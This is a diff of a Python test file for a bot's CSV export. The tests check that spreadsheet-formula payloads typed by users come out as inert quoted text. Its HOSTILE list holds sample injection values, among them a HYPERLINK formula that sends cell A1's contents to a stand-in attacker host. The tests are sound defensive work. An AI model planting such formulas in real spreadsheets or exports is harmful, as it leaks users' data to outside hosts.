@@ -18,14 +18,18 @@ from pathlib import Path
 
 import pytest
 
+from bot.catalog import load_checked_catalog
 from bot.clock import FrozenClock
 from bot.coach import Coach
 from bot.engine import Catalog
 from bot.export.data import csv_cell, to_csv
 from bot.export.summary import CheckInItem, CommitmentItem, RawAnswer, Summary
+from bot.rendering import Renderer, Target
 from bot.storage import Database
 from tests.coach.helpers import ADA, last_question, say, start
+from tests.conftest import REPO
 
+_RENDERER = Renderer(load_checked_catalog(REPO / "flows", REPO / "content"))
 HOSTILE = [
     "=1+1",
     '=HYPERLINK("http://e.vil/?"&A1,"Click")',
@@ -79,9 +83,14 @@ async def test_a_founders_hostile_answers_are_text_in_the_csv(coach: Coach) -> N
     [file] = [r.file for r in await say(coach, ADA, "4") if r.file is not None]
     table = cells(file.data)
     assert_inert(table)
-    values = {row[2]: row[4] for row in table[1:] if row[0] == "answer"}
-    for step, text in typed.items():
-        assert values[step] == "'" + text  # shown as typed, with the quote that disarms it
+    values = {row[2]: row[3] for row in table[1:] if row[0] == "Answer"}
+    for question, text in zip(("Name", "Startup", "Pitch"), typed.values(), strict=True):
+        assert values[question] == "'" + text  # shown as typed, with the quote that disarms it
+
+
+def WORDS(key: str, **context: object) -> str:
+    """The English export words, hostile-free (the header and fixed labels)."""
+    return str(_RENDERER.ui(f"export.{key}", "en", Target.PLAIN, **context))
 
 
 def test_every_text_column_is_neutralised() -> None:
@@ -122,11 +131,15 @@ def test_every_text_column_is_neutralised() -> None:
         ],
         checkins=checkins,
     )
-    table = cells(to_csv(summary))
+    table = cells(to_csv(summary, WORDS))
     assert len(table) == 1 + 2 * len(HOSTILE)
     assert_inert(table)
-    checkin_rows = [row for row in table if row[0] == "checkin"]
-    assert [row[9] for row in checkin_rows] == ["'" + text for text in HOSTILE]
+    checkin_rows = [row for row in table if row[0] == "Check-in"]
+    assert [row[8] for row in checkin_rows] == ["'" + text for text in HOSTILE]
+    assert [row[7] for row in checkin_rows] == ["'" + text for text in HOSTILE]
+    answer_rows = [row for row in table if row[0] == "Answer"]
+    assert [row[2] for row in answer_rows] == ["'" + text for text in HOSTILE]  # no label: id
+    assert [row[3] for row in answer_rows] == ["'" + f"{text}; {text}" for text in HOSTILE]
 
 
 @pytest.mark.parametrize(
